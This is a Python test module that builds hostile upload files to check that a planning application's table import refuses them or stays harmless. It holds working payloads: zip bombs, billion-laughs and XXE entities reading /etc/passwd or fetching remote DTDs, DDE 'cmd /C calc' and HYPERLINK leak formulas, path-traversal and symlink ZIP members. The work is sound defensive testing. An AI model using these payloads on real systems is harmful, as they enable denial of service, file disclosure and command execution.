"""A corpus of hostile upload files, generated (no binary blobs in the repository).

`corpus()` yields `Hostile` items: the file's bytes, the name it is uploaded under (raw bytes,
as a browser would send them), and what the table import (`rtis.ingest.tables.extract_tables`)
must answer: the `TableImportError.code` of its refusal, or `HARMLESS` when the file may be
read but must not do harm (nothing read outside the file, nothing written beside it). Every
other reader (XLSX bulk entry, plan JSON, backup archive) must refuse every item clearly.

Items marked `soak` are the heavy ones (hundreds of MB declared, hundreds of thousands of cells):
they run only in the soak mode (`RTIS_SOAK=1`, `make soak`).

Run `python tests/reliability/hostile.py DIR` to write the corpus into DIR for a manual look.
"""

from __future__ import annotations

import io
import random
import stat
import struct
import sys
import zipfile
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from pathlib import Path

HARMLESS = "harmless"

HS = "http://www.hancom.co.kr/hwpml/2011/section"
HP = "http://www.hancom.co.kr/hwpml/2011/paragraph"
SHEET_NS = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
REL_NS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
PKG_REL_NS = "http://schemas.openxmlformats.org/package/2006/relationships"
CT_NS = "http://schemas.openxmlformats.org/package/2006/content-types"
XLSX_MAIN = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"
XLSM_MAIN = "application/vnd.ms-excel.sheet.macroEnabled.main+xml"
OLE_MAGIC = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
SECRET_MARK = "root:x:0:0"  # what /etc/passwd would leak into a table


@dataclass(frozen=True)
class Hostile:
    """One hostile file: its bytes, its upload name and the table import's expected answer."""

    id: str
    data: bytes
    table_import: str  # a TableImportError code, or HARMLESS
    upload_name: bytes = b"hostile.xlsx"
    soak: bool = False

    @property
    def name(self) -> str:
        """The upload name as text (undecodable bytes replaced), for readers taking a str."""
        return self.upload_name.decode("utf-8", "replace")


# --- building blocks ------------------------------------------------------------------------


def _zip(entries: list[tuple[str | zipfile.ZipInfo, bytes]],
         compression: int = zipfile.ZIP_DEFLATED) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", compression) as archive:
        for name, payload in entries:
            archive.writestr(name, payload)
    return buffer.getvalue()


def section(cells: str) -> bytes:
    """An HWPX section holding one table row with the given `<hp:tc>` cells' text."""
    tcs = "".join(f"<hp:tc><hp:subList><hp:p><hp:run><hp:t>{c}</hp:t></hp:run></hp:p>"
                  f"</hp:subList></hp:tc>" for c in cells.split("|"))
    return (f'<?xml version="1.0" encoding="UTF-8"?><hs:sec xmlns:hs="{HS}" xmlns:hp="{HP}">'
            f"<hp:p><hp:run><hp:tbl><hp:tr>{tcs}</hp:tr></hp:tbl></hp:run></hp:p>"
            f"</hs:sec>").encode()


def hwpx(section_xml: bytes, extra: list[tuple[str | zipfile.ZipInfo, bytes]] | None = None) -> bytes:
    """A minimal HWPX package: mimetype first, one section."""
    return _zip([(zipfile.ZipInfo("mimetype"), b"application/hwp+zip"),
                 ("Contents/section0.xml", section_xml), *(extra or [])])


def sheet_xml(rows: str, tail: str = "") -> bytes:
    return (f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
            f'<worksheet xmlns="{SHEET_NS}" xmlns:r="{REL_NS}"><sheetData>{rows}</sheetData>'
            f"{tail}</worksheet>").encode()


def inline_row(number: int, values: list[str]) -> str:
    """A row of inline-string cells (A, B, C …)."""
    cells = "".join(f'<c r="{_column(i + 1)}{number}" t="inlineStr"><is><t>{v}</t></is></c>'
                    for i, v in enumerate(values))
    return f'<row r="{number}">{cells}</row>'


def _column(number: int) -> str:
    letters = ""
    while number:
        number, rest = divmod(number - 1, 26)
        letters = chr(65 + rest) + letters
    return letters


def xlsx(sheet: bytes | None = None, *, main: str = XLSX_MAIN,
         extra: list[tuple[str | zipfile.ZipInfo, bytes]] | None = None,
         replace: dict[str, bytes] | None = None,
         compression: int = zipfile.ZIP_DEFLATED) -> bytes:
    """A minimal, valid XLSX written by hand (so every part can be made hostile)."""
    parts: dict[str, bytes] = {
        "[Content_Types].xml": (
            f'<?xml version="1.0" encoding="UTF-8"?><Types xmlns="{CT_NS}">'
            f'<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.'
            f'relationships+xml"/><Default Extension="xml" ContentType="application/xml"/>'
            f'<Override PartName="/xl/workbook.xml" ContentType="{main}"/>'
            f'<Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/vnd.'
            f'openxmlformats-officedocument.spreadsheetml.worksheet+xml"/></Types>').encode(),
        "_rels/.rels": (
            f'<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="{PKG_REL_NS}">'
            f'<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/'
            f'2006/relationships/officeDocument" Target="xl/workbook.xml"/>'
            f"</Relationships>").encode(),
        "xl/workbook.xml": (
            f'<?xml version="1.0" encoding="UTF-8"?><workbook xmlns="{SHEET_NS}" '
            f'xmlns:r="{REL_NS}"><sheets><sheet name="예산" sheetId="1" r:id="rId1"/></sheets>'
            f"</workbook>").encode(),
        "xl/_rels/workbook.xml.rels": (
            f'<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="{PKG_REL_NS}">'
            f'<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/'
            f'2006/relationships/worksheet" Target="worksheets/sheet1.xml"/>'
            f"</Relationships>").encode(),
        "xl/worksheets/sheet1.xml": sheet or sheet_xml(
            inline_row(1, ["구분", "2022", "2023"]) + inline_row(2, ["R&amp;D", "1200", "1300"])),
    }
    parts.update(replace or {})
    return _zip([*parts.items(), *(extra or [])], compression)


def valid_xlsx() -> bytes:
    return xlsx()


def with_doctype(xml: bytes, doctype: str) -> bytes:
    """Put a DOCTYPE right after the XML declaration."""
    head, _, rest = xml.partition(b"?>")
    return head + b"?>" + doctype.encode() + rest


BILLION_LAUGHS = ('<!DOCTYPE lolz [<!ENTITY lol "lol">'
                  + "".join(f'<!ENTITY lol{i} "{("&lol" + (str(i - 1) if i > 1 else "") + ";") * 10}">'
                            for i in range(1, 10))
                  + "]>")
XXE_FILE = '<!DOCTYPE x [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
XXE_HTTP = '<!DOCTYPE x SYSTEM "http://127.0.0.1:9/evil.dtd">'
XXE_PARAMETER = ('<!DOCTYPE x [<!ENTITY % remote SYSTEM "http://127.0.0.1:9/x.dtd"> %remote;]>')


def deflate_bomb(size: int) -> bytes:
    """*size* bytes of zeros in one HWPX section entry, written in chunks (light to build)."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr(zipfile.ZipInfo("mimetype"), b"application/hwp+zip")
        with archive.open("Contents/section0.xml", "w", force_zip64=True) as entry:
            chunk = bytes(1024 * 1024)
            for _ in range(size // len(chunk)):
                entry.write(chunk)
    return buffer.getvalue()


def lying_sizes(data: bytes, name: str, size: int) -> bytes:
    """Rewrite *name*'s uncompressed size in both headers to *size* (a bomb hiding its size)."""
    out = bytearray(data)
    for signature, size_at, name_at in ((b"PK\x03\x04", 22, 30), (b"PK\x01\x02", 24, 46)):
        at = out.find(signature)
        while at != -1:
            if out[at + name_at:at + name_at + len(name)] == name.encode():
                struct.pack_into("<I", out, at + size_at, size)
            at = out.find(signature, at + 4)
    return bytes(out)


def nested_zip(depth: int, leaf: bytes) -> bytes:
    """A ZIP inside a ZIP inside … (*depth* levels) around *leaf*."""
    data = leaf
    for level in range(depth):
        data = _zip([(f"layer{level}.zip", data)])
    return data


def overlapping_entries(copies: int) -> bytes:
    """One deflated 1 MiB blob, and *copies* central directory entries all pointing at it."""
    single = _zip([("xl/worksheets/sheet1.xml", bytes(1024 * 1024))])
    cd_at = single.find(b"PK\x01\x02")
    eocd_at = single.find(b"PK\x05\x06")
    record = single[cd_at:eocd_at]
    name_len = struct.unpack_from("<H", record, 28)[0]
    records = []
    for i in range(copies):
        name = f"xl/worksheets/sheet{i + 1}.xml".encode()
        copy = bytearray(record[:46]) + name + record[46 + name_len:]
        struct.pack_into("<H", copy, 28, len(name))
        records.append(bytes(copy))
    directory = b"".join(records)
    eocd = struct.pack("<4s4H2LH", b"PK\x05\x06", 0, 0, copies, copies, len(directory),
                       cd_at, 0)
    return single[:cd_at] + directory + eocd


def many_entries(count: int) -> bytes:
    return _zip([(f"xl/e{i}.xml", b"") for i in range(count)], zipfile.ZIP_STORED)


def member(name: str | bytes, payload: bytes = b"x", *, external_attr: int = 0,
           utf8: bool = True) -> zipfile.ZipInfo:
    """A ZipInfo with an odd name (raw bytes kept when *utf8* is false) or attributes."""
    info = zipfile.ZipInfo(name if isinstance(name, str) else name.decode("cp437"))
    info.external_attr = external_attr
    info.compress_type = zipfile.ZIP_DEFLATED
    if not utf8:
        info.flag_bits &= ~0x800
    return info


def symlink(name: str, target: str) -> tuple[zipfile.ZipInfo, bytes]:
    info = member(name, external_attr=(stat.S_IFLNK | 0o777) << 16)
    info.create_system = 3  # Unix, so the mode bits mean what they say
    return info, target.encode()


def flip_crc(data: bytes, name: str) -> bytes:
    """Damage *name*'s stored bytes so its CRC no longer matches."""
    out = bytearray(data)
    at = out.find(b"PK\x03\x04")
    while at != -1:
        name_len, extra_len = struct.unpack_from("<HH", out, at + 26)
        if out[at + 30:at + 30 + name_len] == name.encode():
            start = at + 30 + name_len + extra_len
            out[start + 2] ^= 0xFF
            return bytes(out)
        at = out.find(b"PK\x03\x04", at + 4)
    raise ValueError(name)


def set_flag(data: bytes, bits: int) -> bytes:
    """Set general-purpose flag *bits* on every entry (local and central headers)."""
    out = bytearray(data)
    for signature, flag_at in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        at = out.find(signature)
        while at != -1:
            flags = struct.unpack_from("<H", out, at + flag_at)[0]
            struct.pack_into("<H", out, at + flag_at, flags | bits)
            at = out.find(signature, at + 4)
    return bytes(out)


def encrypted_ooxml() -> bytes:
    """What Excel writes for a password-protected workbook: an OLE compound file holding the
    EncryptionInfo and EncryptedPackage streams (only the header and directory matter here)."""
    header = bytearray(512)
    header[:8] = OLE_MAGIC
    struct.pack_into("<HHH", header, 24, 0x3E, 3, 0xFFFE)
    struct.pack_into("<H", header, 30, 9)  # 512-byte sectors
    directory = bytearray()
    for name in ("Root Entry", "EncryptionInfo", "EncryptedPackage"):
        entry = bytearray(128)
        raw = name.encode("utf-16-le") + b"\0\0"
        entry[:len(raw)] = raw
        struct.pack_into("<H", entry, 64, len(raw))
        entry[66] = 5 if name == "Root Entry" else 2
        directory += entry
    directory += bytes(128)
    return bytes(header) + bytes(directory) + random.Random(7).randbytes(4096)


def backup_like(manifest: bytes, files: list[tuple[str, bytes]] | None = None) -> bytes:
    """A ZIP shaped like an rtis-backup/1 archive (manifest.json and data/*.jsonl)."""
    return _zip([("manifest.json", manifest), *(files or [])])


def backup_manifest_bomb(size: int) -> bytes:
    """A backup whose manifest.json inflates to *size* bytes of one endless JSON string."""
    buffer = io.BytesIO()
    with (zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive,
          archive.open("manifest.json", "w", force_zip64=True) as entry):
        entry.write(b'{"format": "rtis-backup/1", "x": "')
        chunk = b" " * (1024 * 1024)
        for _ in range(size // len(chunk)):
            entry.write(chunk)
        entry.write(b'"}')
    return buffer.getvalue()


def backup_line_bomb(size: int) -> bytes:
    """A backup whose manifest lists a table whose single line inflates to *size* bytes."""
    import hashlib
    import json

    line = b"[" + b" " * (size - 2) + b"]"
    manifest = json.dumps({"format": "rtis-backup/1", "rtis_version": "0", "password_hashes": False,
                           "migrations": {}, "tables": [{
                               "model": "plans.plan", "file": "data/plans.plan.jsonl",
                               "columns": ["id"], "rows": 1,
                               "sha256": hashlib.sha256(line).hexdigest()}]}).encode()
    return backup_like(manifest, [("data/plans.plan.jsonl", line)])


def deep_json(depth: int) -> bytes:
    return b"[" * depth + b"]" * depth


# --- the corpus -----------------------------------------------------------------------------


def _items() -> Iterator[tuple[str, Callable[[], bytes], str, dict[str, object]]]:
    ok_sheet = valid_xlsx
    rng = random.Random(20261206)
    yield "empty-file", lambda: b"", "not-zip", {}
    yield "random-bytes", lambda: rng.randbytes(4096), "not-zip", {}
    yield "pdf-named-hwpx", lambda: b"%PDF-1.7\n1 0 obj<<>>endobj\ntrailer<<>>\n%%EOF\n", "not-zip", \
        {"upload_name": b"plan.hwpx"}
    yield "hwp5-ole-named-hwpx", lambda: OLE_MAGIC + bytes(1024), "legacy-format", \
        {"upload_name": b"plan.hwpx"}
    yield "encrypted-ooxml", encrypted_ooxml, "encrypted", {}
    yield "truncated-zip", lambda: ok_sheet()[: len(ok_sheet()) // 2], "not-zip", {}
    yield "corrupt-crc", lambda: flip_crc(ok_sheet(), "xl/worksheets/sheet1.xml"), \
        "corrupt-zip", {}
    yield "zip-traditional-encryption", lambda: set_flag(ok_sheet(), 0x1), "encrypted", {}
    yield "zip-bzip2-entries", lambda: xlsx(compression=zipfile.ZIP_BZIP2), \
        "unsupported-compression", {}
    yield "zip-lzma-entries", lambda: xlsx(compression=zipfile.ZIP_LZMA), \
        "unsupported-compression", {}
    yield "xlsm-macro-workbook", lambda: xlsx(main=XLSM_MAIN, extra=[
        ("xl/vbaProject.bin", OLE_MAGIC + bytes(512))]), "unknown-format", \
        {"upload_name": b"macro.xlsm"}
    yield "docx-not-a-workbook", lambda: xlsx(main=(
        "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml")), \
        "unknown-format", {"upload_name": b"doc.docx"}
    yield "hwpx-without-body", lambda: _zip([(zipfile.ZipInfo("mimetype"),
                                              b"application/hwp+zip")]), "unknown-format", \
        {"upload_name": b"plan.hwpx"}
    # zip bombs
    yield "bomb-deflate-ratio-20mb", lambda: deflate_bomb(20 * 1024 * 1024), "zip-bomb", \
        {"upload_name": b"bomb.hwpx"}
    yield "bomb-deflate-200mb", lambda: deflate_bomb(200 * 1024 * 1024), "zip-bomb", \
        {"upload_name": b"bomb.hwpx", "soak": True}
    yield "bomb-lying-sizes", lambda: lying_sizes(
        _zip([(zipfile.ZipInfo("mimetype"), b"application/hwp+zip"),
              ("Contents/section0.xml", bytes(10 * 1024 * 1024))]),
        "Contents/section0.xml", 2000), "corrupt-zip", {"upload_name": b"liar.hwpx"}
    yield "bomb-nested-zips", lambda: nested_zip(8, deflate_bomb(20 * 1024 * 1024)), \
        "unknown-format", {}
    yield "bomb-nested-zip-inside-xlsx", lambda: xlsx(extra=[
        ("xl/embeddings/inner.zip", nested_zip(3, deflate_bomb(20 * 1024 * 1024)))]), \
        HARMLESS, {}
    yield "bomb-many-entries", lambda: many_entries(5000), "zip-bomb", {}
    yield "bomb-many-entries-100k", lambda: many_entries(100_000), "zip-bomb", {"soak": True}
    yield "bomb-overlapping-entries", lambda: overlapping_entries(60), "zip-bomb", {}
    # XML entities
    yield "hwpx-billion-laughs", lambda: hwpx(with_doctype(section("&lol9;"), BILLION_LAUGHS)), \
        "xml-doctype", {"upload_name": b"laughs.hwpx"}
    yield "hwpx-xxe-file", lambda: hwpx(with_doctype(section("&xxe;"), XXE_FILE)), \
        "xml-doctype", {"upload_name": b"xxe.hwpx"}
    yield "hwpx-xxe-external-dtd", lambda: hwpx(with_doctype(section("x"), XXE_HTTP)), \
        "xml-doctype", {"upload_name": b"dtd.hwpx"}
    yield "hwpx-xxe-parameter-entity", lambda: hwpx(with_doctype(section("x"), XXE_PARAMETER)), \
        "xml-doctype", {"upload_name": b"param.hwpx"}
    yield "hwpx-xxe-utf16", lambda: hwpx(with_doctype(section("&xxe;"), XXE_FILE).decode()
                                         .replace('encoding="UTF-8"', 'encoding="UTF-16"')
                                         .encode("utf-16")), "xml-doctype", \
        {"upload_name": b"utf16.hwpx"}
    yield "hwpx-xinclude-passwd", lambda: hwpx(section(
        '<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd" '
        'parse="text"/>')), HARMLESS, {"upload_name": b"xinclude.hwpx"}
    yield "hwpx-deep-nesting", lambda: hwpx(section("<a>" * 5000 + "</a>" * 5000)), \
        "xml-depth", {"upload_name": b"deep.hwpx"}
    yield "xlsx-billion-laughs-sheet", lambda: xlsx(with_doctype(
        sheet_xml(inline_row(1, ["&lol9;"])), BILLION_LAUGHS)), "xml-doctype", {}
    yield "xlsx-xxe-shared-strings", lambda: xlsx(extra=[("xl/sharedStrings.xml", with_doctype(
        f'<?xml version="1.0"?><sst xmlns="{SHEET_NS}"><si><t>&xxe;</t></si></sst>'.encode(),
        XXE_FILE))]), "xml-doctype", {}
    yield "xlsx-xxe-content-types", lambda: xlsx(replace={"[Content_Types].xml": with_doctype(
        f'<?xml version="1.0"?><Types xmlns="{CT_NS}"><Override PartName="/x" '
        f'ContentType="&xxe;"/></Types>'.encode(), XXE_FILE)}), "xml-doctype", {}
    yield "xlsx-xxe-relationships", lambda: xlsx(replace={"xl/_rels/workbook.xml.rels":
        with_doctype(f'<?xml version="1.0"?><Relationships xmlns="{PKG_REL_NS}"/>'.encode(),
                     XXE_HTTP)}), "xml-doctype", {}
    yield "xlsx-xxe-in-unnamed-part", lambda: xlsx(extra=[("xl/payload.bin", with_doctype(
        b'<?xml version="1.0"?><x>&xxe;</x>', XXE_FILE))]), "xml-doctype", {}
    # formulas
    yield "xlsx-formula-dde-cmd", lambda: xlsx(sheet_xml(
        inline_row(1, ["구분", "2022"])
        + "<row r=\"2\"><c r=\"A2\"><f>cmd|' /C calc'!A0</f><v>0</v></c></row>")), \
        "formula", {}
    yield "xlsx-formula-hyperlink", lambda: xlsx(sheet_xml(
        '<row r="1"><c r="A1" t="str"><f>HYPERLINK("http://127.0.0.1:9/?leak="&amp;B1,'
        '"클릭")</f><v>클릭</v></c></row>')), "formula", {}
    yield "xlsx-formula-webservice", lambda: xlsx(sheet_xml(
        '<row r="1"><c r="A1" t="str"><f>WEBSERVICE("http://127.0.0.1:9/")</f><v/></c></row>')), \
        "formula", {}
    yield "xlsx-shared-formula", lambda: xlsx(sheet_xml(
        '<row r="1"><c r="A1"><v>1</v></c><c r="B1"><f t="shared" ref="B1:B3" si="0">A1*2</f>'
        '<v>2</v></c></row>')), "formula", {}
    yield "xlsx-array-formula", lambda: xlsx(sheet_xml(
        '<row r="1"><c r="A1"><f t="array" ref="A1:A2">{1;2}</f><v>1</v></c></row>')), \
        "formula", {}
    yield "xlsx-formula-text-kept-as-text", lambda: xlsx(sheet_xml(inline_row(
        1, ["=cmd|' /C calc'!A0", "+HYPERLINK(\"http://x\")", "@SUM(1)"]))), HARMLESS, {}
    yield "xlsx-dde-external-link", lambda: xlsx(extra=[("xl/externalLinks/externalLink1.xml", (
        f'<?xml version="1.0"?><externalLink xmlns="{SHEET_NS}"><ddeLink ddeService="cmd" '
        f'ddeTopic="/C calc"><ddeItems><ddeItem name="A0"/></ddeItems></ddeLink>'
        f"</externalLink>").encode())]), HARMLESS, {}
    # names inside the ZIP
    yield "zip-member-traversal", lambda: xlsx(extra=[
        (member("../../../../tmp/rtis-hostile-traversal.txt"), b"pwned")]), HARMLESS, {}
    yield "zip-member-absolute", lambda: xlsx(extra=[
        (member("/tmp/rtis-hostile-absolute.txt"), b"pwned"),
        (member("C:\\Windows\\rtis-hostile.txt"), b"pwned")]), HARMLESS, {}
    yield "zip-member-symlink", lambda: xlsx(extra=[
        symlink("xl/media/image1.png", "/etc/passwd")]), HARMLESS, {}
    yield "zip-member-symlink-as-sheet", lambda: xlsx(
        replace={"xl/worksheets/sheet1.xml": b"/etc/passwd"}), "xml-malformed", {}
    yield "zip-member-non-utf8-name", lambda: xlsx(extra=[
        (member("xl/\xb0\xe8\xc8\xb9.xml".encode("latin-1"), b"<x/>", utf8=False), b"<x/>")]), \
        HARMLESS, {}
    yield "zip-member-very-long-name", lambda: xlsx(extra=[(member("x" * 60_000), b"<x/>")]), \
        HARMLESS, {}
    yield "zip-duplicate-member", lambda: _duplicate_member(ok_sheet()), "corrupt-zip", {}
    # sizes
    yield "xlsx-huge-cell-10mb", lambda: xlsx(sheet_xml(inline_row(
        1, ["".join(rng.choices("가나다라마바사아자차카타파하", k=3_000_000))]))), \
        HARMLESS, {}
    yield "xlsx-merge-amplifies-long-text", lambda: xlsx(sheet_xml(
        inline_row(1, ["".join(rng.choices("가나다라마바사아자차카타파하", k=500_000))]),
        '<mergeCells count="1"><mergeCell ref="A1:T950"/></mergeCells>')), "too-much-text", {}
    yield "hwpx-span-amplifies-long-text", lambda: hwpx(section(
        "".join(rng.choices("가나다라마바사아자차카타파하", k=500_000))).replace(
        b"<hp:subList>", b'<hp:cellSpan colSpan="400" rowSpan="400"/><hp:subList>').replace(
        b"<hp:tbl>", b'<hp:tbl rowCnt="400" colCnt="400">')), \
        "too-much-text", {"upload_name": b"span.hwpx"}
    yield "xlsx-many-merged-cells", lambda: xlsx(sheet_xml(
        inline_row(1, ["a"]), '<mergeCells count="1"><mergeCell ref="A1:CV1000"/>'
                              "</mergeCells>")), "too-many-cells", {}
    yield "xlsx-far-cell", lambda: xlsx(sheet_xml(
        inline_row(1, ["a"]) + '<row r="1048576"><c r="XFD1048576" t="inlineStr"><is><t>z</t>'
                               '</is></c></row>')), "too-many-cells", {}
    yield "xlsx-huge-merge", lambda: xlsx(sheet_xml(
        inline_row(1, ["a"]), '<mergeCells count="1"><mergeCell ref="A1:XFD1048576"/>'
                              "</mergeCells>")), "too-many-cells", {}
    yield "xlsx-many-rows", lambda: xlsx(sheet_xml(
        "".join(f'<row r="{r}"><c r="A{r}"><v>{r}</v></c></row>' for r in range(1, 210_001)))), \
        "too-many-cells", {"soak": True}
    yield "xlsx-many-columns", lambda: xlsx(sheet_xml("".join(
        f'<row r="{r}">' + "".join(f'<c r="{_column(c)}{r}"><v>1</v></c>'
                                   for c in range(1, 16_385)) + "</row>"
        for r in range(1, 14)))), "too-many-cells", {"soak": True}
    yield "xlsx-many-cells-two-columns", lambda: xlsx(sheet_xml(
        "".join(f'<row r="{r}"><c r="A{r}"><v>{r}</v></c><c r="B{r}"><v>{r}</v></c></row>'
                for r in range(1, 100_002)))), "too-many-cells", {"soak": True}
    # other readers' formats, seen by every reader
    yield "json-deep-nesting", lambda: deep_json(100_000), "not-zip", \
        {"upload_name": b"plan.json"}
    yield "json-not-utf8", lambda: '{"format": "rtis-plan/1", "plan": "계획"}'.encode("cp949"), \
        "not-zip", {"upload_name": b"plan.json"}
    yield "json-huge-number", lambda: b'{"format": "rtis-plan/1", "n": 1' + b"0" * 100_000 + b"}", \
        "not-zip", {"upload_name": b"plan.json"}
    yield "backup-manifest-bomb", lambda: backup_manifest_bomb(200 * 1024 * 1024), "zip-bomb", \
        {"upload_name": b"backup.zip"}
    yield "backup-line-bomb", lambda: backup_line_bomb(120 * 1024 * 1024), "zip-bomb", \
        {"upload_name": b"backup.zip"}
    yield "backup-deep-manifest", lambda: backup_like(deep_json(100_000)), "unknown-format", \
        {"upload_name": b"backup.zip"}
    yield "backup-manifest-not-utf8", lambda: backup_like("{'형식'}".encode("cp949")), \
        "unknown-format", {"upload_name": b"backup.zip"}
    # upload names (the content is a valid workbook)
    yield "upload-name-cp949", valid_xlsx, HARMLESS, {"upload_name": "예산표.xlsx".encode("cp949")}
    yield "upload-name-5000-chars", valid_xlsx, HARMLESS, \
        {"upload_name": ("가" * 5000 + ".xlsx").encode()}
    yield "upload-name-traversal", valid_xlsx, HARMLESS, \
        {"upload_name": b"../../../../etc/passwd.xlsx"}


def _duplicate_member(data: bytes) -> bytes:
    """The same entry name twice (zipfile warns but writes it): which copy would a reader use?"""
    import warnings

    source = zipfile.ZipFile(io.BytesIO(data))
    buffer = io.BytesIO()
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
            for info in source.infolist():
                archive.writestr(info.filename, source.read(info))
            archive.writestr("xl/worksheets/sheet1.xml",
                             sheet_xml(inline_row(1, ["두 번째"])))
    return buffer.getvalue()


def corpus(*, soak: bool = True) -> Iterator[Hostile]:
    """Every hostile file (the heavy ones only when *soak*), built on demand."""
    for item_id, build, expected, options in _items():
        heavy = bool(options.get("soak", False))
        if heavy and not soak:
            continue
        name = options.get("upload_name", b"hostile.xlsx")
        assert isinstance(name, bytes)
        yield Hostile(item_id, build(), expected, upload_name=name, soak=heavy)


def ids(*, soak: bool = True) -> list[str]:
    """The item ids, without building the files (for test parametrisation)."""
    return [item_id for item_id, _, _, options in _items()
            if soak or not options.get("soak", False)]


def build(item_id: str) -> Hostile:
    """One item by id."""
    for found_id, make, expected, options in _items():
        if found_id == item_id:
            name = options.get("upload_name", b"hostile.xlsx")
            assert isinstance(name, bytes)
            return Hostile(found_id, make(), expected, upload_name=name,
                           soak=bool(options.get("soak", False)))
    raise KeyError(item_id)


if __name__ == "__main__":
    target = Path(sys.argv[1] if len(sys.argv) > 1 else "hostile-corpus")
    target.mkdir(parents=True, exist_ok=True)
    for item in corpus():
        (target / f"{item.id}.bin").write_bytes(item.data)
        print(f"{item.id}: {len(item.data):,} bytes, table import → {item.table_import}")
